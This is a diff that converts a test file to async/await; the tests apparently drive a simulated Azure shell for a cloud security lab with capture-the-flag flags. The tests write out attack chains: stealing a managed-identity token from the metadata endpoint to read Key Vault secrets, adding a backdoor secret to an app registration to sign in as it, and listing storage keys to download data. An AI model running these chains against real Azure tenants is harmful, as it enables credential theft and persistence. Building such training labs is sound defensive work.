@@ -33,8 +33,8 @@ test.each([
     "az vm run-command invoke -g rg-web -n vm-report --command-id RunShellScript --scripts 'id -u; hostname' --query 'value[0].message' -o tsv | grep report",
     'vm-report',
   ],
-])('%s', (line, output) => {
-  expect(shell().prints(line)).toBe(output)
+])('%s', async (line, output) => {
+  expect(await shell().prints(line)).toBe(output)
 })
 
 test.each([
@@ -66,8 +66,8 @@ test.each([
   ['az vm list --foo', 2, 'unrecognized arguments: --foo'],
   ['az vm show', 2, 'the following arguments are required: --name'],
   ['az login -u lab-1@lab.example -p guess', 1, 'AADSTS50126'],
-])('%s is refused as Azure refuses it', (line, exit, words) => {
-  const answer = shell().run(line)
+])('%s is refused as Azure refuses it', async (line, exit, words) => {
+  const answer = await shell().run(line)
   expect(answer.output).toContain(words)
   expect(answer.exit).toBe(exit)
 })
@@ -75,85 +75,89 @@ test.each([
 const script = (resource: string, client: string) =>
   `T=$(curl -s -H 'Metadata: true' 'http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=${resource}${client}' | jq -r .access_token); curl -s -H "Authorization: Bearer $T" 'https://kv-payments.vault.azure.net/secrets/ledger-reader?api-version=7.4'`
 
-function onMachine(one: TestShell, text: string) {
+async function onMachine(one: TestShell, text: string) {
   one.state = { ...one.state, files: { ...one.state.files, '/home/learner/s': text } }
   return one.prints(
     "az vm run-command invoke -g rg-web -n vm-report --command-id RunShellScript --scripts @s --query 'value[0].message' -o tsv",
   )
 }
 
-test('from the machine, as the identity that is named and for the right audience, the vault opens', () => {
+test('from the machine, as the identity that is named and for the right audience, the vault opens', async () => {
   const one = shell()
-  const id = one.prints('az identity show -g rg-web -n id-report --query clientId -o tsv')
-  expect(onMachine(one, script('https://vault.azure.net', `&client_id=${id}`))).toContain('"value": "FLAG{vault}"')
-  expect(onMachine(one, script('https://vault.azure.net', ''))).toContain(
+  const id = await one.prints('az identity show -g rg-web -n id-report --query clientId -o tsv')
+  expect(await onMachine(one, script('https://vault.azure.net', `&client_id=${id}`))).toContain(
+    '"value": "FLAG{vault}"',
+  )
+  expect(await onMachine(one, script('https://vault.azure.net', ''))).toContain(
     'Caller is not authorized to perform action on resource',
   )
-  expect(onMachine(one, script('https://management.azure.com/', `&client_id=${id}`))).toContain(
+  expect(await onMachine(one, script('https://management.azure.com/', `&client_id=${id}`))).toContain(
     'InvalidAuthenticationTokenAudience',
   )
   expect(
-    onMachine(one, "curl -s 'http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01'"),
+    await onMachine(one, "curl -s 'http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01'"),
   ).toContain('Required metadata header not specified')
 })
 
-test('a token of the machine does not pass the firewall of the vault from elsewhere', () => {
+test('a token of the machine does not pass the firewall of the vault from elsewhere', async () => {
   const one = shell()
-  const id = one.prints('az identity show -g rg-web -n id-report --query clientId -o tsv')
+  const id = await one.prints('az identity show -g rg-web -n id-report --query clientId -o tsv')
   const token = /eyJ[\w.-]+/.exec(
-    onMachine(
+    await onMachine(
       one,
       `curl -s -H 'Metadata: true' 'http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://vault.azure.net&client_id=${id}'`,
     ),
   )?.[0]
   expect(
-    one.prints(
+    await one.prints(
       `curl -s -H "Authorization: Bearer ${token}" 'https://kv-payments.vault.azure.net/secrets/ledger-reader?api-version=7.4'`,
     ),
   ).toContain('Client address is not authorized')
 })
 
-test('whoever owns an application may sign in as it, and read what it may', () => {
+test('whoever owns an application may sign in as it, and read what it may', async () => {
   const one = shell()
-  one.run(
+  await one.run(
     'APP=$(az ad app list --display-name build-runner --query "[0].appId" -o tsv); TENANT=$(az account show --query tenantId -o tsv)',
   )
-  const added = one.run(
+  const added = await one.run(
     'SECRET=$(az ad app credential reset --id "$APP" --append --display-name rt-2026-proof --query password -o tsv)',
   )
   expect(added.log).toMatchObject([
     { action: 'Update application – Certificates and secrets management', kept: true, identity: 'lab-1@lab.example' },
   ])
-  one.run(
+  await one.run(
     'export AZURE_CONFIG_DIR=$HOME/.azure-app; az login --service-principal --username "$APP" --tenant "$TENANT" --password "$SECRET" -o none',
   )
-  expect(one.prints('az account show --query user.type -o tsv')).toBe('servicePrincipal')
+  expect(await one.prints('az account show --query user.type -o tsv')).toBe('servicePrincipal')
   expect(
-    one.prints(
+    await one.prints(
       'az storage blob download -c settlements -n settlement-2026-10 --account-name stpayments --auth-mode login',
     ),
   ).toContain('You do not have the required permissions')
-  one.run("KEY=$(az storage account keys list -n stpayments -g rg-payments --query '[0].value' -o tsv)")
+  await one.run("KEY=$(az storage account keys list -n stpayments -g rg-payments --query '[0].value' -o tsv)")
   expect(
-    one.prints(
+    await one.prints(
       'az storage blob download -c settlements -n settlement-2026-10 --account-name stpayments --account-key "$KEY"',
     ),
   ).toBe('FLAG{blob}')
-  expect(one.prints('az storage blob list -c settlements --account-name stpayments --account-key wrong')).toContain(
-    'Server failed to authenticate the request',
-  )
+  expect(
+    await one.prints('az storage blob list -c settlements --account-name stpayments --account-key wrong'),
+  ).toContain('Server failed to authenticate the request')
   one.world = { ...one.world, source_ip: '192.0.2.9' }
-  expect(one.prints('az storage blob list -c settlements --account-name stpayments --account-key "$KEY"')).toContain(
-    'This request is not authorized to perform this operation',
-  )
+  expect(
+    await one.prints('az storage blob list -c settlements --account-name stpayments --account-key "$KEY"'),
+  ).toContain('This request is not authorized to perform this operation')
 })
 
-test('the activity log keeps what changes and not what is read', () => {
+test('the activity log keeps what changes and not what is read', async () => {
   const one = shell()
-  one.run(
+  await one.run(
     'az group list; az vm run-command invoke -g rg-web -n vm-report --command-id RunShellScript --scripts id; az storage account keys list -n stpayments',
   )
   expect(
-    one.prints("az monitor activity-log list -g rg-web --query '[].[operationName.value,caller,status.value]' -o tsv"),
+    await one.prints(
+      "az monitor activity-log list -g rg-web --query '[].[operationName.value,caller,status.value]' -o tsv",
+    ),
   ).toBe('Microsoft.Compute/virtualMachines/runCommand/action\tlab-1@lab.example\tSucceeded')
 })
